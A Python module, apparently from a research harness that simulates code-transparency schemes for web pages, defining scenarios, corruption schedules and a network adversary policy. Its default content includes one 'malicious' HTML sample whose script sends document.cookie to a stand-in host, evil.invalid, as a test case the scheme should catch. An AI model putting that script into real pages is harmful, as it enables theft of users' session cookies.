"""Scenario description: principals, content, schedule and adversary policy."""

from __future__ import annotations

import json
import random
from dataclasses import asdict, dataclass, field
from enum import Enum
from pathlib import Path
from typing import Any

from ..crypto import DAY


class Variant(str, Enum):
    ACCOUNTABLE = "AccountableJS"
    CODE_VERIFY = "CodeVerify"


STEP_ACTIONS = ("publish", "refresh", "advance", "session", "corrupt", "claims")
CORRUPTIBLE = ("developer", "webserver", "client", "broker")


@dataclass(frozen=True)
class Step:
    action: str
    args: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if self.action not in STEP_ACTIONS:
            raise ValueError(f"unknown step action {self.action!r}")


@dataclass(frozen=True)
class AdversaryPolicy:
    """Per-message probabilities of network interference."""

    drop: float = 0.0
    replay: float = 0.0
    tamper: float = 0.0
    drop_staple_refresh: bool = False


DEFAULT_CONTENT = {
    "benign": '<html><head><script>console.log("Hello World")</script></head>'
              '<body><button onclick="greet()">hi</button></body></html>',
    "benign2": '<html><head><script>console.log("Hello again")</script></head><body></body></html>',
    "malicious": '<html><head><script>fetch("https://evil.invalid/?k="+document.cookie)</script></head>'
                 '<body></body></html>',
}


@dataclass(frozen=True)
class Scenario:
    name: str = "scenario"
    variant: Variant = Variant.ACCOUNTABLE
    url: str = "https://www.example.com/"
    content: dict[str, str] = field(default_factory=lambda: dict(DEFAULT_CONTENT))
    malicious_label: str = "malicious"
    clients: int = 1
    steps: tuple[Step, ...] = ()
    adversary: AdversaryPolicy = AdversaryPolicy()
    freshness_window: int = DAY
    client_checks_freshness: bool = True
    seed: int = 0

    def to_dict(self) -> dict[str, Any]:
        d = asdict(self)
        d["variant"] = self.variant.value
        d["steps"] = [{"action": s.action, **s.args} for s in self.steps]
        return d

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True)

    @classmethod
    def from_dict(cls, d: dict[str, Any]) -> Scenario:
        steps = []
        for raw in d.get("steps", []):
            raw = dict(raw)
            steps.append(Step(raw.pop("action"), raw))
        return cls(
            name=d.get("name", "scenario"),
            variant=Variant(d.get("variant", Variant.ACCOUNTABLE.value)),
            url=d.get("url", "https://www.example.com/"),
            content=dict(d.get("content") or DEFAULT_CONTENT),
            malicious_label=d.get("malicious_label", "malicious"),
            clients=int(d.get("clients", 1)),
            steps=tuple(steps),
            adversary=AdversaryPolicy(**d.get("adversary", {})),
            freshness_window=int(d.get("freshness_window", DAY)),
            client_checks_freshness=bool(d.get("client_checks_freshness", True)),
            seed=int(d.get("seed", 0)),
        )

    @classmethod
    def load(cls, path: str | Path) -> Scenario:
        return cls.from_dict(json.loads(Path(path).read_text(encoding="utf-8")))


def random_scenario(seed: int, variant: Variant = Variant.ACCOUNTABLE, *, corruption_rate: float = 0.3) -> Scenario:
    """Seeded scenario with a random corruption schedule and adversary policy.

    Honest developers only ever publish benign content; the malicious body
    is published only after the developer is corrupted.
    """
    rng = random.Random(seed)
    corruptible = ["developer", "webserver", "client"]
    if variant is Variant.CODE_VERIFY:
        corruptible.append("broker")
    clients = rng.randint(1, 3)
    steps: list[Step] = [Step("publish", {"label": "benign"}), Step("refresh")]
    corrupted: set[str] = set()
    for _ in range(rng.randint(3, 10)):
        r = rng.random()
        if r < corruption_rate / 3:
            who = rng.choice(corruptible)
            if who == "client":
                who = f"client:{rng.randrange(clients)}"
            if who not in corrupted:
                corrupted.add(who)
                steps.append(Step("corrupt", {"principal": who}))
        elif r < 0.35:
            steps.append(Step("session", {"client": rng.randrange(clients)}))
        elif r < 0.5:
            label = "malicious" if "developer" in corrupted and rng.random() < 0.7 else rng.choice(["benign", "benign2"])
            steps.append(Step("publish", {"label": label}))
        elif r < 0.65:
            steps.append(Step("refresh"))
        elif r < 0.8:
            steps.append(Step("advance", {"ticks": rng.choice([1, 60, 3600, DAY // 2, DAY + 1])}))
        else:
            steps.append(Step("session", {"client": rng.randrange(clients)}))
    steps.append(Step("session", {"client": rng.randrange(clients)}))
    steps.append(Step("claims"))
    policy = AdversaryPolicy(
        drop=rng.choice([0.0, 0.0, 0.1, 0.2]),
        replay=rng.choice([0.0, 0.1, 0.3]),
        tamper=rng.choice([0.0, 0.1, 0.3]),
        drop_staple_refresh=rng.random() < 0.2,
    )
    return Scenario(name=f"random-{variant.value}-{seed}", variant=variant, clients=clients, steps=tuple(steps),
                    adversary=policy, seed=seed)
